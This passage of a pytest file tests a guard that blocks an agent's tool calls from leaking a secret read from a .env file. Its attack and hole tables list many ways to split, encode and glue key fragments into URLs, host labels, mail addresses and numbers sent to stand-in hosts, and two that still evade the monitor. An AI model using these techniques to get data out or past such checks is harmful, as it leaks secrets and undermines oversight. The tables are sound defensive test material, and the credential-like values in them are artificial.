"""The joins of pieces (:mod:`interlock.session.tails`, :mod:`interlock.session.pieces`)
after the third round widened what they read (a run's parts between ``._@``, a query's
run with a ``+`` between ``/?&#``, ``%20`` dropped, a float's digits without its
exponent, base32, a labelled encoding's first and last runs), attacked a fourth time —
false alarms first. Since, a run is read in its parts between every character that is
not a letter or a digit as well (``pieces._cuts``: the round's "glued" holes).

False alarms: a session reads a realistic ``.env`` (:data:`REAL_ENV`: a DB URL, mail
addresses, host names, a config file's name, a version, a float) or the attack table's
(:data:`~tests.session.test_attacks_split.ENV`), an ordinary page and a mail (no
label), then sends benign calls that reuse ordinary parts of that data. ``BENIGN`` and
``REAL_BENIGN`` rows must run; ``FLOWS`` rows send a token of the secret-labelled data
and are refused by design; ``FALSE_ALARMS`` are benign calls refused today (strict
xfails, each says where). :func:`test_false_alarm_rate_on_a_generated_corpus` measures
the rate over a seeded corpus of ordinary calls (printed with ``-s``).

Bypasses of the new reads: ``ATTACKS`` are refused (and run without the secret read);
``HOLES`` walk past (strict xfails, each says why and where). Every row runs through
the C loops and the Python references too: a difference is a bug.
"""

from __future__ import annotations

import base64
import random
import uuid
from decimal import Decimal
from typing import Any, Final

import pytest

from interlock import Action, Context, Guard, Verdict, load_policy_text
from interlock.session import fingerprints
from interlock.session import tails as tails_module
from interlock.session.history import MemoryHistory
from interlock.session.tails import tails_of

from .test_attacks_pieces import _noisy, _run, after_the_read
from .test_attacks_pieces_round3 import _KEY_8, _KEY_10, _b32, _get, _in_turn
from .test_attacks_split import (
    ENV,
    KEY,
    PASSWORD,
    POLICY,
    _b64,
    _cut,
    _guard,
    _read,
    _verdicts,
    hole_params,
)

Call = tuple[str, dict[str, Any]]
_KEY_12: Final = _cut(KEY, 12)  # wJalrXUtnFEM I-K7MDENG-bP xRfiCYEXAMPL EKEY

#: A realistic ``.env`` (secret-labelled when read): its tokens share ordinary parts
#: with what an agent sends (corp.example, schmidt, config, prod, yaml, v1.2.3, 3.14159)
REAL_ENV: Final = """\
APP_ENV=production
DATABASE_URL=postgres://user:pass@db.corp.example:5432/app
REPLICA_URL=postgres://app_user:pG7vQ2rX9mLk@db-ro.corp.example:5432/app
SMTP_HOST=smtp.corp.example
SMTP_USER=anna.schmidt@corp.example
SMTP_PASSWORD=Wint3r-Is-C0ming!
STRIPE_SECRET_KEY=sk_live_51HxQ9aK2mZ7bL4pR8tY3vW6nC0dE5fG
JWT_SECRET=9f8e7d6c5b4a39281706f5e4d3c2b1a0
CONFIG_FILE=/etc/app/config.prod.yaml
REDIS_URL=redis://cache-01.internal.corp.example:6379/0
SENTRY_DSN=https://4f2a9c1b7e3d@o450412.ingest.sentry.io/5501234
ADMIN_EMAIL=ops.team@corp.example
S3_BUCKET=corp-example-backups-prod
API_VERSION=v1.2.3
FEATURE_RATIO=3.14159
"""
#: Ordinary data the session fetched (no label): its grams are kept too
PAGE: Final = """<html><body><h1>Release notes 4.2</h1><p>Version v4.2.0 ships the new
exporter (ExportService) and fixes TICKET-88231. See
https://docs.vendor.example/guide/export.html and config.sample.yaml. Contact
support@vendor.example. Build 20261207.3, commit 7c1e0f93ab.</p></body></html>"""
MAIL: Final = """From: anna.schmidt@corp.example
Subject: Q4 numbers
Hi team, the Q4 report is in /shared/finance/q4-summary.xlsx, ratio 0.73421.
Meeting in room B-204. Regards, Anna Schmidt"""


def _session(env: str, session: str = "s-4", history: MemoryHistory | None = None) -> Guard:
    """A guard whose session read ``env`` (secret) and a page and a mail (no label)."""
    guard = _guard(session, history)
    _read(guard, env)
    _read(guard, PAGE, "/srv/app/page.html")
    _read(guard, MAIL, "/srv/app/inbox/q4.eml")
    return guard


def after_real(calls: list[Call]) -> list[Verdict]:
    """The verdicts of ``calls`` in a session that read :data:`REAL_ENV`."""
    return _verdicts(_session(REAL_ENV), calls)


def _mixed_case(text: str) -> str:
    return "".join(c.lower() if i % 2 else c for i, c in enumerate(text))


def _b32hex(text: str) -> str:
    return base64.b32hexencode(text.encode()).decode()


def _post(value: object) -> Call:
    return ("http_post", {"body": value})


def _mail(to: str, body: str = "hi") -> Call:
    return ("send_mail", {"to": to, "subject": "Update", "body": body})


def _url(url: str) -> Call:
    return ("http_get", {"url": url})


# -- false alarms ---------------------------------------------------------------------

#: id -> benign calls after the realistic .env: parts of its dotted, underscored and
#: @-ed tokens reused in ordinary values — all run
REAL_BENIGN: dict[str, list[Call]] = {
    "file-names-sharing-a-surname-and-a-suffix": [
        _post("schmidt.report.pdf"),
        ("http_post", {"path": "/home/anna/prod.yaml", "body": "x"}),
        ("http_post", {"path": "/etc/app/config.staging.yaml", "body": "x"}),
        _post("app_user_guide.md"),
    ],
    "urls-on-the-corp-domain": [
        _url("https://corp.example/docs"),
        _url("https://wiki.corp.example/display/OPS/Runbook"),
        _url("https://db.corp.example/status"),
        _url("https://corp.example/search?q=config+prod&page=2"),
    ],
    "versions-and-floats-of-the-env": [
        ("http_post", {"version": "v1.2.3", "pi": 3.14159}),
        ("http_post", {"version": "v1.2.4", "ratio": 0.73421}),
        ("http_post", {"port": 5432, "n": 6379.0}),
        _post("release-v1.2.3.tar.gz"),
    ],
    "parts-of-the-env-in-turn": _in_turn(
        ["corp.example", "schmidt.notes", "prod.yaml", "internal.wiki", "ingest.example"]
    ),
    "the-page-and-the-mail-sent-on": [
        _mail("anna@vendor.example", "Re: Q4 numbers — the report is in q4-summary.xlsx"),
        _url("https://docs.vendor.example/guide/export.html"),
        _post("config.sample.yaml"),
        ("http_post", {"json": {"ticket": "TICKET-88231", "build": 20261207.3}}),
    ],
    "a-host-then-a-directory": [
        _url("https://corp.example/docs"),
        ("http_post", {"path": "/srv/backups/db.tar.gz", "body": "x"}),
        _url("https://internal.example/"),
        _post("sentry.yaml"),
        _post("smtp.log"),
    ],
}

#: id -> calls after the realistic .env that send a token of it: a flow, by design
#: (the file is secret-labelled: its host names and addresses are its data too)
FLOWS: dict[str, list[Call]] = {
    "a-reply-to-the-smtp-user": [_mail("anna.schmidt@corp.example")],
    "the-config-file-name": [_post("config.prod.yaml")],
    "the-redis-host": [_url("https://cache-01.internal.corp.example/health")],
    "the-db-url": [_post("postgres://app_user:pG7vQ2rX9mLk@db-ro.corp.example:5432/app")],
}

_SIXTEEN = (
    "fingerprints: a call shares a run of 16 normalised characters (._@ kept) with the "
    "secret-labelled data — {}: the joins play no part (refused with join_calls: false "
    "too); a suffix of a recipient or a host shared with the data is enough"
)
_WORDS_IN_TURN = (
    "the tails (not the pieces: a part between ._@ spelled as a word is no piece): the "
    "host-label stream joins 'battery', 'staple', 'meadowlark' sent in turn to "
    "'batterystaple…', which the probe finds in the kept passphrase (round 2's "
    "'passphrase-words-in-search-queries', in host names; with join_calls: false they run)"
)

#: id -> (benign calls refused today, why): strict xfails
FALSE_ALARMS: dict[str, tuple[str, list[Call], str]] = {
    "a-colleague-with-the-same-surname": (
        REAL_ENV,
        [_mail("max.schmidt@corp.example")],
        _SIXTEEN.format("'schmidt@corp.example'"),
    ),
    "a-team-address-sharing-a-suffix": (
        REAL_ENV,
        [_mail("sales.team@corp.example")],
        _SIXTEEN.format("'team@corp.example'"),
    ),
    "a-sibling-cache-host": (
        REAL_ENV,
        [_url("https://cache-02.internal.corp.example/health")],
        _SIXTEEN.format("'internal.corp.example'"),
    ),
    "a-sibling-bucket": (
        REAL_ENV,
        [_post("corp-example-backups-staging")],
        _SIXTEEN.format("'corpexamplebackups'"),
    ),
    "passphrase-words-as-host-labels": (
        ENV,
        [_url(f"https://{w}.shop.example/") for w in ("battery", "staple", "meadowlark")],
        _WORDS_IN_TURN,
    ),
}


# -- the generated corpus ---------------------------------------------------------------

#: Ordinary words, some of them parts of the two .env files (corp, example, schmidt,
#: config, prod, internal, backups, sentry; battery, horse, correct of the passphrase)
_WORDS: Final = [
    "report",
    "summary",
    "invoice",
    "schmidt",
    "anna",
    "corp",
    "example",
    "prod",
    "staging",
    "config",
    "yaml",
    "json",
    "docs",
    "internal",
    "cache",
    "backups",
    "sentry",
    "ingest",
    "stripe",
    "deploy",
    "release",
    "notes",
    "export",
    "service",
    "vendor",
    "finance",
    "quarter",
    "budget",
    "meeting",
    "agenda",
    "minutes",
    "customers",
    "orders",
    "metrics",
    "dashboard",
    "production",
    "development",
    "analytics",
    "integration",
    "pipeline",
    "kubernetes",
    "terraform",
    "battery",
    "horse",
    "correct",
    "lark",
    "meadow",
    "backup",
    "sample",
]
_DOMAINS: Final = ("example", "example.org", "corp.example", "vendor.example", "io", "com")
_EXTENSIONS: Final = ("pdf", "yaml", "json", "md", "txt", "csv", "py", "png", "tar.gz")
_KINDS: Final = (
    "json",
    "url",
    "path",
    "email",
    "float",
    "version",
    "b32word",
    "prose",
    "query",
    "dashed",
    "floattext",
    "sentence",
)


def benign_corpus(seed: int = 4, size: int = 480) -> list[tuple[str, Call]]:
    """``size`` ordinary calls (seeded), each with its kind: JSON bodies, URLs with
    hosts, paths and queries, file paths, mails, floats, versions, lowercase words of the
    base32 alphabet, prose ending with long words; ids cut by punctuation (UUIDs,
    tickets, tags with ``~!*``), floats written as text with an exponent and Decimals,
    sentences with a hash, an id or an encoding in the middle."""
    rng = random.Random(seed)

    def word() -> str:
        return rng.choice(_WORDS)

    out: list[tuple[str, Call]] = []
    for i in range(size):
        kind = _KINDS[i % len(_KINDS)]
        call: Call
        if kind == "json":
            call = (
                "http_post",
                {
                    "json": {
                        "title": f"{word().title()} {word()}",
                        "id": f"{word()}_{rng.randint(1, 999)}",
                        "tags": [word(), f"{word()}.{word()}"],
                        "score": round(rng.random() * 100, rng.randint(2, 6)),
                    }
                },
            )
        elif kind == "url":
            host = f"{rng.choice([word(), 'api', 'www', 'cdn'])}.{rng.choice(_DOMAINS)}"
            path = "/".join(word() for _ in range(rng.randint(1, 3)))
            query = f"q={word()}+{word()}&page={rng.randint(1, 20)}"
            call = _url(f"https://{host}/{path}?{query}")
        elif kind == "path":
            name = f"{word()}.{word()}.{rng.choice(_EXTENSIONS)}"
            call = ("http_post", {"path": f"/home/user/{word()}/{name}", "body": "ok"})
        elif kind == "email":
            call = _mail(
                f"{word()}.{word()}@{rng.choice(_DOMAINS)}",
                f"See the {word()} {word()} attached.",
            )
        elif kind == "float":
            number = rng.choice(
                [
                    3.14159,
                    2.718281828,
                    1.41421356,
                    rng.uniform(0, 1e6),
                    rng.uniform(1e-8, 1e-4),
                    rng.uniform(-1e9, 1e9),
                ]
            )
            call = ("http_post", {"n": number})
        elif kind == "version":
            version = f"v{rng.randint(0, 9)}.{rng.randint(0, 30)}.{rng.randint(0, 99)}"
            call = ("http_post", {"version": version, "pkg": f"{word()}-{word()}"})
        elif kind == "b32word":
            letters = "abcdefghijklmnopqrstuvwxyz234567"
            call = _post("".join(rng.choice(letters) for _ in range(rng.choice([8, 16, 24]))))
        elif kind == "dashed":
            value = rng.choice(
                [
                    str(uuid.UUID(int=rng.getrandbits(128))),
                    f"{word().upper()[:4]}-{rng.randint(1000, 99999)}",
                    f"{word()}-{rng.randint(2020, 2026)}-{rng.randint(1, 12):02d}"
                    f"~rc{rng.randint(1, 9)}",
                    f"{word()}!{word()}*{rng.randint(1, 99)}",
                    f"sku-{rng.getrandbits(16):04X}-{rng.choice(['S', 'M', 'XL'])}",
                ]
            )
            call = ("http_post", {"ref": value, "body": "ok"})
        elif kind == "floattext":
            text = f"{rng.uniform(1e-9, 1e9):.{rng.randint(3, 12)}{rng.choice('eE')}}"
            value = Decimal(text) if rng.random() < 0.5 else text
            call = ("http_post", {"n": value})
        elif kind == "sentence":
            middle = rng.choice(
                [
                    f"{rng.getrandbits(40):010x}",
                    base64.b64encode(f"{word()} {word()}".encode()).decode(),
                    base64.b32encode(word().encode()).decode(),
                    f"{word().title()}{word().title()}",
                    f"{rng.randint(10**7, 10**9)}",
                ]
            )
            call = _mail("ops@corp.example", f"Build {middle} of the {word()} passed today")
        elif kind == "prose":
            last = rng.choice(["integration", "development", "customers", "documentation"])
            call = _mail("ops@corp.example", f"Please review the {word()} before the {last}")
        else:
            call = _url(f"https://search.example/s?q={word()}%20{word()}&lang=en#{word()}.{word()}")
        out.append((kind, call))
    return out


_CORPUS: Final = benign_corpus()
#: Calls a session (a new session, the data read again, every so many calls)
_PER_SESSION: Final = 20
_JOINS_OFF: Final = POLICY.replace(
    "default: allow\n", "default: allow\nsession: {join_calls: false}\n"
)


def _alarms(env: str, joins: bool = True, accelerated: bool = True) -> list[tuple[int, Call]]:
    """The corpus's calls refused after ``env`` was read, each with its place."""
    out: list[tuple[int, Call]] = []
    for start in range(0, len(_CORPUS), _PER_SESSION):
        history = MemoryHistory()
        if joins:
            guard = _guard(f"c{start}", history)
        else:
            guard = Guard(
                load_policy_text(_JOINS_OFF),
                context=Context(session_id=f"c{start}"),
                sessions=history,
            )
        if not accelerated:
            tails_of(history)._advance = None
        _read(guard, env)
        _read(guard, PAGE, "/srv/app/page.html")
        _read(guard, MAIL, "/srv/app/inbox/q4.eml")
        for at, (_, call) in enumerate(_CORPUS[start : start + _PER_SESSION], start):
            if guard.check(Action.tool(*call)).verdict is not Verdict.ALLOW:
                out.append((at, call))
    return out


#: The bound on the false-alarm rate of the corpus (each .env): 1 call in 100, the
#: split table's bound on the joins' false positives (5% of the joined calls, 1% of
#: the pairs); measured: 0/480 after REAL_ENV, 0/480 after ENV (seventh session, the
#: corpus grown by ids cut by punctuation, floats as text and sentences with an id or
#: an encoding in the middle: what the reads added since read); 0/360 each before
#: (1/360 when the round was written, #298: the host label 'correct' and the query
#: words 'horse' and 'battery' of three calls chained to the passphrase's start — a
#: part between ._@ spelled as a word is no piece since: BENIGN's 'the-corpus-alarm-…')
_BOUND: Final = 0.01


@pytest.mark.parametrize("env", ["real-env", "table-env"])
def test_false_alarm_rate_on_a_generated_corpus(env: str) -> None:
    data = REAL_ENV if env == "real-env" else ENV
    assert len(_CORPUS) >= 300
    alarms = _alarms(data)
    without_joins = _alarms(data, joins=False)
    rate = len(alarms) / len(_CORPUS)
    print(
        f"\nfalse alarms after the {env}: {len(alarms)}/{len(_CORPUS)} = {rate:.2%} "
        f"(without the joins {len(without_joins)}/{len(_CORPUS)})"
    )
    fingerprints_alone = {at for at, _ in without_joins}
    for at, call in alarms:
        print(f"  #{at} {call}{'' if at in fingerprints_alone else '  (joins)'}")
    assert rate <= _BOUND
    assert fingerprints_alone <= {at for at, _ in alarms}


def test_the_corpus_runs_without_a_secret_read() -> None:
    for start in range(0, len(_CORPUS), _PER_SESSION):
        guard = _guard(f"clean{start}")
        _read(guard, PAGE, "/srv/app/page.html")
        calls = [call for _, call in _CORPUS[start : start + _PER_SESSION]]
        assert set(_verdicts(guard, calls)) == {Verdict.ALLOW}


def test_the_corpus_is_judged_alike_by_the_c_loops_and_the_python_references() -> None:
    if not tails_module.ACCELERATED or not fingerprints.ACCELERATED:
        pytest.skip("the C loops are off (not built, or INTERLOCK_NO_SPEEDUPS)")
    for env in (REAL_ENV, ENV):
        on_c = _alarms(env)
        fingerprints._accelerate(False)
        try:
            on_python = _alarms(env, accelerated=False)
        finally:
            fingerprints._accelerate(True)
        assert on_c == on_python


# -- bypasses of the new reads ----------------------------------------------------------

_ENCODED_WITH_NOISE = (
    "the tails decode a labelled value's runs ('part 1: <base64 of piece 1> end', "
    "tails._runs_decoded) and join what they decode to while the pieces come in turn; "
    "an 'Ack' between two ends that join, and the pieces (pieces.py) join what calls "
    "sent as it is, never decoded: pieces each encoded on their own and sent apart are "
    "no piece of the secret's grams"
)
#: id -> the calls that carry the key (or the password, or the IBAN) out: refused
ATTACKS: dict[str, list[Call]] = {
    # -- separators the new reads split at, or drop at a run's edge -------------------
    "tildes-around-a-url-path-segment-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://x.example/~{p}~/a")
    ),
    "commas-inside-a-url-path-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://x.example/a,{p},b")
    ),
    "userinfo-user-before-a-colon-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://{p}:x@x.example/")
    ),
    "userinfo-between-two-colons-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://ab:{p}:cd@x.example/")
    ),
    "a-plus-prefix-in-a-body-with-noise": _noisy([f"v1+{p}" for p in _KEY_10]),
    "a-plus-tag-in-a-mail-address-with-noise": _noisy(
        _KEY_10, lambda p: {"to": f"me+{p}@x.example", "body": "hi"}
    ),
    "a-plus-tag-in-a-mail-address-in-turn": _in_turn(
        _KEY_10, lambda p: {"to": f"me+{p}@x.example", "body": "hi"}, "send_mail"
    ),
    "dotted-halves-with-noise": _noisy([f"{p[:5]}.{p[5:]}" for p in _KEY_10]),
    "dotted-halves-of-a-local-part-with-noise": _noisy(
        _KEY_12, lambda p: {"to": f"{p[:6]}.{p[6:]}@x.example", "body": "hi"}
    ),
    "host-label-halves-with-noise": _noisy(
        _KEY_12, lambda p: _get(f"https://{p[:6]}.{p[6:]}.x.example/")
    ),
    "underscores-on-both-sides-with-noise": _noisy([f"a_{p}_b" for p in _KEY_10]),
    "a-percent-encoded-dot-with-noise": _noisy([f"v1%2E{p}" for p in _KEY_10]),
    "a-percent-encoded-at-with-noise": _noisy(_KEY_10, lambda p: {"to": f"{p}%40x.example"}),
    "encoded-spaces-around-a-path-segment-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://x.example/a%20{p}%20b")
    ),
    "password-halves-as-file-names-with-noise": _noisy(
        [f"{PASSWORD[:6]}.txt", f"{PASSWORD[6:]}.txt"]
    ),
    # -- a piece split across a dotted host and a path ------------------------------
    "host-label-and-path-in-turn": _in_turn(
        [(KEY[i : i + 6], KEY[i + 6 : i + 12]) for i in range(0, 36, 12)],
        lambda p: _get(f"https://{p[0]}.x.example/{p[1]}"),
        "http_get",
    ),
    "host-label-and-path-with-noise": _noisy(
        [(KEY[i : i + 6], KEY[i + 6 : i + 12]) for i in range(0, 36, 12)],
        lambda p: _get(f"https://{p[0]}.x.example/{p[1]}"),
    ),
    "host-label-and-file-name-with-noise": _noisy(
        [(KEY[i : i + 6], KEY[i + 6 : i + 12]) for i in range(0, 36, 12)],
        lambda p: _get(f"https://{p[0]}.x.example/{p[1]}.png"),
    ),
    # -- encodings ------------------------------------------------------------------
    "base64-first-of-three-runs-in-turn": _in_turn(
        [f"{_b64(p)} is part {i}" for i, p in enumerate(_KEY_10)]
    ),
    "base32-mixed-case-in-dns-labels-in-turn": _in_turn(
        _KEY_8,
        lambda p: _get(f"https://{_mixed_case(_b32(p).rstrip('='))}.x.example/"),
        "http_get",
    ),
    "base32-unpadded-in-turn": _in_turn([_b32(p).rstrip("=") for p in _KEY_8]),
    # -- numbers ----------------------------------------------------------------------
    "account-number-float-texts-in-turn": _in_turn(["8937040044.0", "0532013000.0"]),
    "account-number-decimals-with-noise": _noisy(
        [Decimal("8937040044.05"), Decimal("3201300.0")], lambda p: {"n": p}
    ),
    # -- an encoded piece between a label and a trailer (holes when the round was
    # written: the tails decoded a value's first and last runs only; every run but
    # words among its first 32 since, tails._runs_decoded) ----------------------------
    "base64-the-middle-run-of-three-in-turn": _in_turn(
        [f"part {i}: {_b64(p)} end" for i, p in enumerate(_KEY_10)]
    ),
    "hex-the-middle-run-of-three-in-turn": _in_turn(
        [f"part {i}: {p.encode().hex()} end" for i, p in enumerate(_KEY_10)]
    ),
    "base32-in-a-sentence-in-turn": _in_turn(
        [f"Chunk {i} of 5 is {_b32(p)} as agreed" for i, p in enumerate(_KEY_8)]
    ),
    "base64-after-thirty-words-in-turn": _in_turn(
        [" ".join(["word"] * 30 + [_b64(p), "end"]) for p in _KEY_10]
    ),
    # -- base32 of both cases, base32's extended hex alphabet (holes when the round was
    # written: tails._decoded_whole read base32 of one case, A-Z2-7 only) -------------
    "base32-mixed-case-in-turn": _in_turn([_mixed_case(_b32(p)) for p in _KEY_8]),
    "base32-extended-hex-in-turn": _in_turn([_b32hex(p) for p in _KEY_8]),
    "base32-extended-hex-in-dns-labels-in-turn": _in_turn(
        _KEY_8,
        lambda p: _get(f"https://{_b32hex(p).rstrip('=').lower()}.x.example/"),
        "http_get",
    ),
    "base32-extended-hex-unpadded-mixed-case-in-turn": _in_turn(
        [_mixed_case(_b32hex(p).rstrip("=")) for p in _KEY_8]
    ),
    # -- floats as text and Decimals (holes when the round was written: a float's
    # digits were read without its exponent for a float object only; a text written
    # with an exponent and a Decimal's digits since, pieces._FLOAT_TEXT and _walk) ----
    "account-number-float-texts-with-noise": _noisy(["8.937040044e-05", "4.40532013e-07"]),
    "account-number-float-texts-capital-e-with-noise": _noisy(
        ["8.937040044E-05", "4.40532013E-07"]
    ),
    "account-number-float-texts-in-json-with-noise": _noisy(
        [{"v": "8.937040044e-05"}, {"v": "4.40532013e-07"}], lambda p: {"json": p}
    ),
    "account-number-small-decimals-with-noise": _noisy(
        [Decimal("8.937040044E-5"), Decimal("4.40532013E-7")], lambda p: {"n": p}
    ),
    "account-number-float-texts-signed-in-a-sentence-with-noise": _noisy(
        ["drift +8.937040044e-05 today", "drift -4.40532013E+07 today"]
    ),
    # -- glued by a character the normalisation drops (holes when the round was
    # written: a run is read in its parts between what is not a letter or a digit since,
    # pieces._cuts) ----------------------------------------------------------------------
    "tilde-glued-with-noise": _noisy([f"{p}~x" for p in _KEY_10]),
    "tilde-glued-in-turn": _in_turn([f"{p}~v2" for p in _KEY_10]),
    "bang-glued-in-turn": _in_turn([f"v1!{p}" for p in _KEY_10]),
    "bangs-inside-a-url-path-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://x.example/a!{p}!b")
    ),
    "stars-inside-a-url-path-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://x.example/a*{p}*b")
    ),
    "dollars-inside-a-url-path-with-noise": _noisy(
        _KEY_10, lambda p: _get(f"https://x.example/a${p}$b")
    ),
    "carets-and-percents-glued-with-noise": _noisy([f"x^{p}%y" for p in _KEY_10]),
    "dashes-glued-in-turn": _in_turn([f"id-{p}-7" for p in _KEY_10]),
    "a-tilde-and-a-dot-around-a-piece-in-a-mail-with-noise": _noisy(
        _KEY_10, lambda p: {"to": f"x~{p}.y@x.example", "body": "hi"}
    ),
}

#: id -> (calls, why they walk past): strict xfails
HOLES: dict[str, tuple[list[Call], str]] = {
    "base64-the-middle-run-of-three-with-noise": (
        _noisy([f"part {i}: {_b64(p)} end" for i, p in enumerate(_KEY_10)]),
        _ENCODED_WITH_NOISE,
    ),
    "base64-after-forty-words-in-turn": (
        _in_turn([" ".join(["word"] * 40 + [_b64(p), "end"]) for p in _KEY_10]),
        "tails._runs_decoded reads a value's first 32 runs (and its last): an encoded "
        "piece further into a long text is never decoded (a bound on the work a value "
        "costs)",
    ),
}


def _other_key(seed: int) -> str:
    return base64.b64encode(random.Random(seed).randbytes(30)).decode()


_OTHER_8: Final = _cut(_other_key(41), 8)
_OTHER_10: Final = _cut(_other_key(42), 10)

#: id -> calls after the table's .env that look like the rows above and are not: all run
BENIGN: dict[str, list[Call]] = {
    # false alarms when the round was written: a part between ._@ spelled as a word (a
    # file's name, a host label) is no piece since
    "passphrase-words-as-file-names": [
        ("http_post", {"path": f"/tmp/{name}", "body": "x"})
        for name in ("battery.csv", "staple.png", "meadowlark.txt")
    ],
    "the-corpus-alarm-a-host-label-and-query-words": [
        _url("https://correct.example.org/cache/development?q=invoice+horse&page=6"),
        _url("https://customers.vendor.example/backup?q=battery+terraform&page=11"),
    ],
    "urls-with-tildes-bangs-stars-dollars-commas": [
        _url(u)
        for u in (
            "https://x.example/~anna/notes/",
            "https://x.example/#!/settings",
            "https://x.example/a*b/c$d/e,f",
            "https://x.example/list,of,ids/42",
            "https://deploy:ci-2026@git.x.example/",
        )
    ],
    "mail-addresses-with-plus-tags-and-dots": _in_turn(
        ["me+newsletter@x.example", "anna.schmidt@corp.example", "noreply+7Hq2xK9p@x.example"],
        lambda p: {"to": p, "body": "hi"},
        "send_mail",
    ),
    "dotted-and-underscored-names": _noisy(
        ["schmidt.report.pdf", "config.prod.yaml", "AWS_SECRET.md", "a_EXAMPLE_b", "v1.2.3"]
    ),
    "versions-in-turn": _in_turn(["v1.2.3", "v1.2.4", "v1.24.3-rc.1", "2026.12.07"]),
    "prose-with-ids-hashes-and-encodings-in-the-middle-in-turn": _in_turn(
        [
            "Deploy 7c1e0f93ab finished in 42s with build 20261207.3 ok",
            "The greeting SGVsbG8gd29ybGQ= is base64 of hello world",
            "Label MFRGGZDFMZTWQ2LK came from the printer queue",
            "Order ORD-2026-000417 ships with 4f2a9c1b7e3d tracking today",
        ]
    ),
    "other-keys-pieces-labelled-in-the-middle": _in_turn(
        [f"part {i}: {_b64(p)} end" for i, p in enumerate(_OTHER_10)]
    ),
    "other-keys-pieces-base32-mixed-case": _in_turn([_mixed_case(_b32(p)) for p in _OTHER_8]),
    "other-keys-pieces-base32-extended-hex": _in_turn([_b32hex(p) for p in _OTHER_8]),
    "base32-extended-hex-looking-ids-in-turn": _in_turn(
        ["20261207", "7C1E0F93AB", "0123456789ABCDEF", "DEADBEEFCAFE", "4F2A9C1B7E3D"]
    ),
    "camel-case-identifiers-in-turn": _in_turn(
        ["ExportService", "getUserById", "HttpClientFactory", "parseJsonBody", "MyAppConfig"]
    ),
    "base32-looking-lowercase-words": _in_turn(
        ["streamline", "lowercase", "abcdefgh", "readwrite", "mailbox2", "database"]
    ),
    "camel-case-words-in-turn": _in_turn(["ExportService", "DeployPipeline", "QuarterlyReport"]),
    "prose-ending-with-long-words": _in_turn(
        [
            "Please review the deployment documentation",
            "part 1: the integration environment",
            "The quarterly numbers are in the spreadsheet",
        ]
    ),
    "floats-and-float-texts": [
        ("http_post", {"n": n})
        for n in (
            3.14159,
            2.718281828,
            "6.02214076e23",
            "1.5e-05",
            Decimal("3.14159"),
            Decimal("1E-7"),
            8.9e-05,
        )
    ],
    # the parts between what is not a letter or a digit (pieces._cuts) are read too:
    # ordinary values cut by dashes, tildes, bangs, stars, dollars and carets run
    "values-cut-by-punctuation-in-turn": _in_turn(
        [
            "release-2026-12~rc1",
            "v1!main",
            "feature/INT-4821-fix*",
            "price$42.00^2",
            "ticket~TICKET-88231",
            "build-20261207.3",
        ]
    ),
    "other-keys-pieces-glued-with-noise": _noisy([f"{p}~x" for p in _OTHER_10]),
    "uuids-and-dashed-ids-with-noise": _noisy(
        [
            "4f2a9c1b-7e3d-4a5b-9c1d-2e3f4a5b6c7d",
            "a1b2c3d4-e5f6-7a8b-9c0d-e1f2a3b4c5d6",
            "ORD-2026-000417",
            "sku-A7Q2-XL",
        ]
    ),
    "hosts-and-paths-of-ordinary-sites": _noisy(
        [("api", "v1"), ("eu-west-1", "status"), ("cdn-7", "logo.png")],
        lambda p: _get(f"https://{p[0]}.x.example/{p[1]}"),
    ),
    "the-passwords-shape-in-other-file-names": _noisy(["Tr1ck5.txt", "&4x.txt", "report.txt"]),
}


@pytest.mark.parametrize("row", sorted(ATTACKS))
def test_a_secret_sent_in_pieces_is_refused(row: str) -> None:
    verdicts = after_the_read(ATTACKS[row])
    assert Verdict.DENY in verdicts, verdicts
    assert set(_run(_guard(), ATTACKS[row])) == {Verdict.ALLOW}  # without the secret read


@pytest.mark.parametrize("row", hole_params(HOLES))
def test_a_secret_sent_in_pieces_a_hole(row: str) -> None:
    assert Verdict.DENY in after_the_read(HOLES[row][0])


def test_the_hole_rows_run_without_the_secret_too() -> None:
    for calls, _ in HOLES.values():
        assert set(_run(_guard(), calls)) == {Verdict.ALLOW}


@pytest.mark.parametrize("row", sorted(BENIGN))
def test_benign_look_alikes_after_a_secret_read_run(row: str) -> None:
    calls = BENIGN[row]
    assert after_the_read(calls) == [Verdict.ALLOW] * len(calls)


@pytest.mark.parametrize("row", sorted(REAL_BENIGN))
def test_benign_calls_after_a_realistic_env_run(row: str) -> None:
    calls = REAL_BENIGN[row]
    assert after_real(calls) == [Verdict.ALLOW] * len(calls)


@pytest.mark.parametrize("row", sorted(FLOWS))
def test_a_token_of_the_realistic_env_is_a_flow(row: str) -> None:
    assert after_real(FLOWS[row]) == [Verdict.DENY] * len(FLOWS[row])
    assert set(_verdicts(_guard(), FLOWS[row])) == {Verdict.ALLOW}  # without the read


@pytest.mark.parametrize(
    "row",
    [
        pytest.param(row, marks=pytest.mark.xfail(strict=True, reason=why))
        for row, (_, _, why) in sorted(FALSE_ALARMS.items())
    ],
)
def test_benign_calls_refused_today(row: str) -> None:
    env, calls, _ = FALSE_ALARMS[row]
    assert _verdicts(_session(env), calls) == [Verdict.ALLOW] * len(calls)


def test_the_false_alarms_are_the_datas_and_the_fingerprints_or_joins_say_which() -> None:
    """Each false alarm runs without the read; the 16-character ones are refused with
    the joins off too, the passphrase's words are not (the joins refuse them)."""
    for env, calls, why in FALSE_ALARMS.values():
        assert set(_verdicts(_guard(), calls)) == {Verdict.ALLOW}
        off = Guard(
            load_policy_text(_JOINS_OFF), context=Context(session_id="o"), sessions=MemoryHistory()
        )
        _read(off, env)
        refused_without_joins = Verdict.DENY in _verdicts(off, calls)
        assert refused_without_joins == (why != _WORDS_IN_TURN), calls


# -- the C loops against the Python references -------------------------------------------


def _verdicts_on(env: str, calls: list[Call], accelerated: bool) -> list[Verdict]:
    history = MemoryHistory()
    guard = _guard("p", history)
    if not accelerated:
        tails_of(history)._advance = None
    _read(guard, env)
    _read(guard, PAGE, "/srv/app/page.html")
    return _verdicts(guard, calls)


_ALL_ROWS: Final[dict[str, tuple[str, list[Call]]]] = {
    **{f"attack:{k}": (ENV, v) for k, v in ATTACKS.items()},
    **{f"hole:{k}": (ENV, v[0]) for k, v in HOLES.items()},
    **{f"benign:{k}": (ENV, v) for k, v in BENIGN.items()},
    **{f"real-benign:{k}": (REAL_ENV, v) for k, v in REAL_BENIGN.items()},
